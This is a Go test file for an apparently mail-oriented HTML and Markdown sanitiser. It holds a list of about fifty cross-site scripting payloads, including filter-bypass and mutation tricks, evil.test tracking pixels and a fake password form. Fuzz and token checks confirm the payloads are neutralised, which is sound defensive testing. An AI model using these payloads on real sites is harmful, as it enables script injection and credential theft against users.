package markup_test

import (
	"io"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"secondline/internal/kit/markup"
)

// attacks are texts that would do something if any of them came through, as
// Markdown or as the HTML of a foreign mail.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="https://evil.test/pixel.gif?who=ann" srcset="https://evil.test/2x 2x">`,
	`<IMG SRC=//evil.test/p.gif LOWSRC=https://evil.test/q>`,
	`<img src="javascript:alert(1)"><img src="data:image/svg+xml;base64,PHN2Zy8+">`,
	`<img src=/api/v1/session/end>`,
	`<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<a href="javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:x">x</a>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.test/bg)">cover</div>`,
	`<div style="text-align:center;position:absolute">x</div>`,
	`<p style="font-weight:expression(alert(1))">x</p>`,
	`<div id=app class="button primary" name=location>x</div>`,
	`<form action="https://evil.test"><input name=password><button>Sign in</button></form>`,
	`<iframe src="https://evil.test"></iframe><object data=x></object><embed src=x>`,
	`<link rel=stylesheet href="https://evil.test/a.css"><style>@import url(https://evil.test/b.css)</style>`,
	`<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test">`,
	`<video src="https://evil.test/v" poster="https://evil.test/p" autoplay></video><audio src=https://evil.test/a>`,
	`<table background="https://evil.test/t"><tr><td background=https://evil.test/u>x`,
	`<body onload=alert(1) background="https://evil.test/b">x`,
	`<p onclick=alert(1) onmouseover = "alert(2)">x</p>`,
	`<p title="x" onclick=alert(1)//`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>`,
	`<template><img src=x onerror=alert(1)></template>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](java&#115;cript:alert(1))`,
	"[x](<java\nscript:alert(1)>)",
	`[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`![x](https://evil.test/pixel.gif "onerror=alert(1)")`,
	`![x"onerror="alert(1)](x)`,
	`[x](https://acme.test/"onmouseover="alert(1))`,
	`[x]: javascript:alert(1)` + "\n\n[x]",
	`<javascript:alert(1)>`,
	`@["><img src=x onerror=alert(1)>](person:1)`,
	`@[x](person:1"onclick=alert(1))`,
	"```\"><script>alert(1)</script>\nx\n```",
	`|a|` + "\n" + `|-|` + "\n" + `|<img src=x onerror=alert(1)>|`,
}

// never lists what no output may hold.
var neverElements = []string{
	"script", "style", "iframe", "object", "embed", "link", "meta", "base", "form", "input", "button",
	"select", "textarea", "svg", "math", "video", "audio", "source", "template", "noscript", "frame", "frameset", "body", "html", "head",
}

var attributes = []string{
	"href", "rel", "target", "align", "start", "data-person", "data-src", "data-cid", "alt", "width", "height",
	"src", "colspan", "rowspan", "dir", "style",
}

// harmless fails the test for any element, attribute or address that could do
// something. It reads the output anew, as a browser would.
func harmless(t *testing.T, in, out string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			if z.Err() != io.EOF {
				t.Errorf("%q became %q: %v", in, out, z.Err())
			}
			return
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("%q became %q, with a comment", in, out)
		case html.StartTagToken, html.SelfClosingTagToken:
			if why := harm(z.Token()); why != "" {
				t.Errorf("%q became %q: %s", in, out, why)
			}
		}
	}
}

func harm(tok html.Token) string {
	if slices.Contains(neverElements, tok.Data) {
		return "element " + tok.Data
	}
	for _, a := range tok.Attr {
		value := strings.ToLower(a.Val)
		switch {
		case !slices.Contains(attributes, a.Key):
			return "attribute " + a.Key
		case a.Key == "src" && !strings.HasPrefix(value, "data:image/"):
			return "loads " + a.Val
		case a.Key == "src" && strings.Contains(value, "svg"):
			return "loads a drawing that may hold scripts"
		case a.Key == "href" && strings.Contains(strings.SplitN(value, "/", 2)[0], "script"):
			return "link " + a.Val
		case a.Key == "href" && strings.HasPrefix(value, "data:"):
			return "link " + a.Val
		case a.Key == "style" && (strings.Contains(value, "position") || strings.ContainsAny(value, "()@\\")):
			return "style " + a.Val
		}
	}
	return ""
}

func TestNoAttackComesThrough(t *testing.T) {
	for _, in := range attacks {
		harmless(t, in, markup.HTML(in))
		harmless(t, in, markup.SafeHTML(in))
		harmless(t, in, markup.HTML("text\n\n> "+in+"\n"))
		harmless(t, in, markup.SafeHTML("<div><p title='"+in+"'>"+in))
	}
}

func TestWhatAForeignMailMayKeep(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"words", `<p>Hello <b>Ann</b>,<br/>it fails</p>`, `<p>Hello <b>Ann</b>,<br/>it fails</p>`},
		{"links", `<a href="https://acme.test/a?b=1&c=2" onclick=x>x</a>`, `<a href="https://acme.test/a?b=1&amp;c=2" rel="nofollow noreferrer noopener" target="_blank">x</a>`},
		{"links to our own pages go", `<a href="/logout">x</a>`, `x`},
		{"remote pictures are held back", `<img src="https://acme.test/logo.png" width=100 alt=Logo>`, `<img data-src="https://acme.test/logo.png" width="100" alt="Logo">`},
		{"pictures that came along", `<img src="cid:image001.png@01DA">`, `<img data-cid="image001.png@01DA">`},
		{"pictures inside", `<img src="data:image/png;base64,iVBORw0KGgo=">`, `<img src="data:image/png;base64,iVBORw0KGgo=">`},
		{"emphasis but not place", `<p style="font-weight:bold;position:fixed;z-index:9">x</p>`, `<p style="font-weight: bold">x</p>`},
		{"tables", `<table width=100% bgcolor=red><tr><td colspan=2>x</td></tr></table>`, `<table><tr><td colspan="2">x</td></tr></table>`},
		{"the title is not the text", `<html><head><title>Re: x</title></head><body>y</body></html>`, `y`},
	} {
		if got := markup.SafeHTML(c.in); got != c.want {
			t.Errorf("%s:\n got %s\nwant %s", c.name, got, c.want)
		}
	}
}

func FuzzHTML(f *testing.F) {
	seed(f)
	f.Fuzz(func(t *testing.T, md string) {
		harmless(t, md, markup.HTML(md))
		_ = markup.Plain(md) // must not panic; its words are tested above
		for _, who := range markup.Mentions(md) {
			if who == "" || strings.ContainsAny(who, " <>\"\n") {
				t.Errorf("%q mentions %q", md, who)
			}
		}
	})
}

func FuzzSafeHTML(f *testing.F) {
	seed(f)
	f.Fuzz(func(t *testing.T, in string) {
		out := markup.SafeHTML(in)
		harmless(t, in, out)
		if again := markup.SafeHTML(markup.SafeHTML(out)); again != markup.SafeHTML(out) {
			t.Errorf("%q does not settle: %q, %q", in, out, again)
		}
	})
}

func FuzzTextOf(f *testing.F) {
	seed(f)
	f.Fuzz(func(t *testing.T, in string) {
		text := markup.TextOf(in)
		if strings.ContainsAny(text, "\x00\x1b\r") {
			t.Errorf("%q became %q, with controls", in, text)
		}
		for n := range 12 {
			s := markup.Snippet(text, n)
			if len([]rune(s)) > n || strings.ContainsAny(s, "\n\t") {
				t.Errorf("snippet of %d: %q", n, s)
			}
		}
	})
}

func seed(f *testing.F) {
	for _, in := range attacks {
		f.Add(in)
	}
	f.Add("a\n\n- b\n  1. c\n\n> d @ann https://acme.test www.acme.test\n\n|a|\n|-|\n|b|\n")
	f.Add("<ul><li>a<ol start=7><li>b</ul></p></ol></blockquote></pre>")
}
